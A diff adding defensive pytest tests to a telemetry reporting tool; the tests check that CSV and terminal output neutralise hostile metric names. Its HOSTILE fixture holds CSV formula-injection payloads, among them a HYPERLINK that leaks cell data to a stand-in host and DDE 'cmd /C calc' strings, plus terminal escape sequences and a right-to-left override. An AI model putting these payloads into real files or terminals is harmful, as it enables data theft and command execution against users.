@@ -134,3 +134,76 @@ def test_html_renders_in_headless_chromium(report, tmp_path):
     assert dom.count("<polyline") >= 2
     if os.environ.get("USAGETRACE_KEEP_SCREENSHOT"):
         shutil.copy(shot, os.environ["USAGETRACE_KEEP_SCREENSHOT"])
+
+
+# --- hostile data: anyone who can reach a public endpoint chooses these strings ---------------
+
+HOSTILE = {
+    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")": "'=HYPERLINK",
+    "+cmd|' /C calc'!A0": "'+cmd|",
+    "-2+3+cmd|' /C calc'!A0": "'-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM",
+    "\tTAB=1+1": "'\ufffdTAB",
+    "\rCR=1+1": "'\ufffdCR",
+    "mypkg.\x1b]0;owned title\x07f": "mypkg.f",
+    "mypkg.\x1b[2J\x1b[31mred": "mypkg.red",
+    "mypkg.\u202egnp.exe": "mypkg.\ufffdgnp.exe",
+}
+
+
+def _hostile_file(tmp_path, names=HOSTILE, installs=6):
+    """Metric lines as a hostile client could send them past a collector that does not mask names."""
+    day = fixtures.ns(__import__("datetime").date(2026, 11, 2))
+    lines = []
+    for i in range(installs):
+        points = [{"attributes": [fixtures._kv("code.function.name", n), fixtures._kv("usagetrace.outcome", "ok")],
+                   "startTimeUnixNano": str(day), "timeUnixNano": str(day + 10**9), "asInt": "3"} for n in names]
+        lines.append(json.dumps({"resourceMetrics": [{
+            "resource": {"attributes": [fixtures._kv("service.name", "hpkg"),
+                                        fixtures._kv("usagetrace.install.id", f"inst-{i}")]},
+            "scopeMetrics": [{"scope": {"name": "usagetrace"}, "metrics": [{
+                "name": "usagetrace.calls",
+                "sum": {"aggregationTemporality": 1, "isMonotonic": True, "dataPoints": points}}]}]}]}))
+    path = tmp_path / "hostile.jsonl"
+    path.write_text("\n".join(lines) + "\n")
+    return path
+
+
+def _hostile_report(tmp_path):
+    path = _hostile_file(tmp_path)
+    return build_report(Analytics(DuckDBEngine.from_path(path), package="hpkg"), source=str(path))
+
+
+def test_csv_neutralises_formulas_and_controls(tmp_path):
+    """Cells starting with = + - @ tab or CR get a leading ' (OWASP); no control character is written."""
+    text = render(_hostile_report(tmp_path), "csv")
+    rows = list(csv.reader(io.StringIO(text)))
+    functions = {r[0] for r in rows if r and not r[0].startswith("#")}
+    for name, start in HOSTILE.items():
+        if start.startswith("'"):
+            assert any(f.startswith(start) for f in functions), (name, functions)
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert not any(ch in text for ch in "\x1b\x07\x9b\r\t\u202e")
+
+
+def test_terminal_table_strips_escape_sequences(tmp_path):
+    """The terminal table shows no escape sequence or control character; the names stay readable."""
+    text = render(_hostile_report(tmp_path), "table")
+    assert not any(ch in text for ch in "\x1b\x07\x9b\r\t\u202e\x00")
+    for shown in ("mypkg.f", "mypkg.red", "mypkg.\ufffdgnp.exe"):
+        assert shown in text, shown
+    assert "owned title" not in text  # the OSC payload (a window title) is removed with its sequence
+
+
+def test_report_cli_warnings_are_terminal_safe(tmp_path, capsys):
+    """A warning naming a bad line (its file name is the operator's, its reason the data's) carries no escapes."""
+    from usagetrace._internal.analytics import cli
+
+    path = _hostile_file(tmp_path, installs=5)
+    with open(path, "a") as fh:
+        fh.write('{"resourceSpans": "\x1b]0;owned\x07"}\n')
+    assert cli.main([str(path), "--package", "hpkg", "--k", "1", "--no-cache"]) == 0
+    out, err = capsys.readouterr()
+    assert ":6:" in err and "\x1b" not in err and "\x1b" not in out
